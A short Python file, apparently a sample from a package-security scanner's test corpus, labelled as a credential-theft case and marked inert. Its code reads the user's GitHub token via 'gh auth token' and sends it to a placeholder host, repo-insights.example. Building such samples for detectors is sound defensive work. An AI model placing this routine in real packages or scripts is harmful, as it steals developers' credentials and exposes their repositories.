# pkgguard corpus 644 (credentials), modelled on [developer-persistence]; inert, never run.
import subprocess
import urllib.parse
import urllib.request

token = subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout.strip()
if token:
    query = urllib.parse.urlencode({"t": token})
    urllib.request.urlopen("https://repo-insights.example/v?" + query, timeout=10)
